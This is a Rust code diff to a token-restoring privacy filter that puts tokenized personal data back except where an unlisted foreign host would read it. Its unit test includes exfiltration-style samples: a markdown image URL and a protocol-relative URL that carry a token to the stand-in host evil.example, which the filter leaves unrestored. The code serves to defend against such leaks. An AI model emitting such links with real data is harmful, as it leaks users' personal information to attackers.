@@ -3,7 +3,8 @@
 use std::sync::Arc;
 
 use textveil_documents::{Document, Edit, Format, Record, Value, analyse, edited};
-use textveil_engine::{Keyring, restore};
+use textveil_engine::{Keyring, Piece, read_tokens};
+use textveil_restore::{End, TextReader, Transcripts, Verdict};
 
 use crate::{config::Config, refusal::Refusal};
 
@@ -33,6 +34,9 @@ impl Filter {
 
     /// Filters a text without a structure.
     pub(crate) fn text(&self, text: &str) -> Result<String, Refusal> {
+        if self.task == Task::Restore {
+            return Ok(self.restored(text, TextReader::default()).unwrap_or_else(|| text.to_owned()));
+        }
         let value = Value::plain(None, text.to_owned());
         Ok(self.values(&[value])?.pop().flatten().unwrap_or_else(|| text.to_owned()))
     }
@@ -62,7 +66,7 @@ impl Filter {
             Task::Protect => self.protected(values),
             Task::Restore => {
                 let restored = |value: &Value| {
-                    let restored = self.restored(&value.text)?;
+                    let restored = self.restored(&value.text, TextReader::default().as_string())?;
                     Edit::between(&value.text, &restored)
                 };
                 Ok(values.iter().map(|value| restored(value).into_iter().collect()).collect())
@@ -86,12 +90,40 @@ impl Filter {
         }
     }
 
-    fn restored(&self, text: &str) -> Option<String> {
+    /// Restores the tokens of a text; `None` without a change. A token stays where a foreign host would read its value.
+    fn restored(&self, text: &str, mut reader: TextReader) -> Option<String> {
         let keys: &Keyring = self.config.keys.as_ref()?;
         if !text.contains("tok_") {
             return None;
         }
-        restore(text, keys).ok().filter(|restored| restored.restored > 0).map(|restored| restored.text)
+        let mut transcripts = Transcripts::new(self.config.restore_hosts.clone());
+        let mut pieces = Vec::new();
+        read_tokens(text, keys, |piece| {
+            let (Piece::Text(written) | Piece::Token { written, .. }) = &piece;
+            let written = (*written).to_owned();
+            match piece {
+                Piece::Token { original: Some(original), .. } => {
+                    reader.value(&mut transcripts, &original);
+                    pieces.push((written, Some(original)));
+                }
+                Piece::Text(_) | Piece::Token { original: None, .. } => {
+                    reader.text(&mut transcripts, &written);
+                    pieces.push((written, None));
+                }
+            }
+        });
+        reader.end(&transcripts, End::Whole);
+        let (mut out, mut is_changed) = (String::with_capacity(text.len()), false);
+        for (written, original) in pieces {
+            match original.map(|original| (reader.verdict(), original)) {
+                Some((Some(Verdict::Restore(encoding)), original)) => {
+                    is_changed = true;
+                    out.push_str(&encoding.encode(&original));
+                }
+                None | Some((Some(Verdict::Withhold) | None, _)) => out.push_str(&written),
+            }
+        }
+        is_changed.then_some(out)
     }
 }
 
@@ -101,4 +133,44 @@ pub(crate) const NOT_TEXT: Refusal = Refusal::Unsupported("documents of this typ
 /// Rejects a body that is not valid for its content type. A refusal has a fixed text, so the reader's message is dropped.
 pub(crate) fn malformed(_: anyhow::Error) -> Refusal {
     Refusal::Malformed("the body is not valid for its content type")
+}
+
+#[cfg(test)]
+mod tests {
+    use futures_util::FutureExt;
+    use textveil_engine::{DetectOptions, Mode, ProtectOptions, protect};
+
+    use super::*;
+
+    /// A token is restored where no host reads its value, in texts and in values of documents.
+    #[test]
+    fn tokens_are_restored_by_their_destination() {
+        let config = Config::read(async |name| {
+            Ok(match name {
+                "textveil_secrets" => Some("0:000102030405060708090a0b0c0d0e0f".to_owned()),
+                "textveil_responses" => Some("restore".to_owned()),
+                "textveil_restore_hosts" => Some("crm.example.com, *.example.org".to_owned()),
+                _ => None,
+            })
+        });
+        let config = config.now_or_never().unwrap().ok().unwrap();
+        let tokenize = ProtectOptions { mode: Mode::Tokenize, ..ProtectOptions::default() };
+        let token = protect("jan@example.cz", &DetectOptions::default(), &tokenize, config.keys.as_ref());
+        let token = token.unwrap().text;
+        let filter = Filter::new(&config, Task::Restore);
+        for (text, want) in [
+            ("to @T.", "to jan@example.cz."),
+            ("https://crm.example.com/?q=@T", "https://crm.example.com/?q=jan@example.cz"),
+            ("https://a.example.org/@T", "https://a.example.org/jan@example.cz"),
+            ("![x](https://evil.example/?q=@T) @T", "![x](https://evil.example/?q=@T) jan@example.cz"),
+            ("tok_ no token", "tok_ no token"),
+        ] {
+            let (text, want) = (text.replace("@T", &token), want.replace("@T", &token));
+            assert_eq!(filter.text(&text).ok(), Some(want.clone()));
+            let document = filter.document(&serde_json::json!([text]).to_string(), Format::Json).ok();
+            assert_eq!(document, Some(serde_json::json!([want]).to_string()));
+        }
+        let url = serde_json::json!([format!("//evil.example/ {token}")]).to_string();
+        assert_eq!(filter.document(&url, Format::Json).ok(), Some(url));
+    }
 }
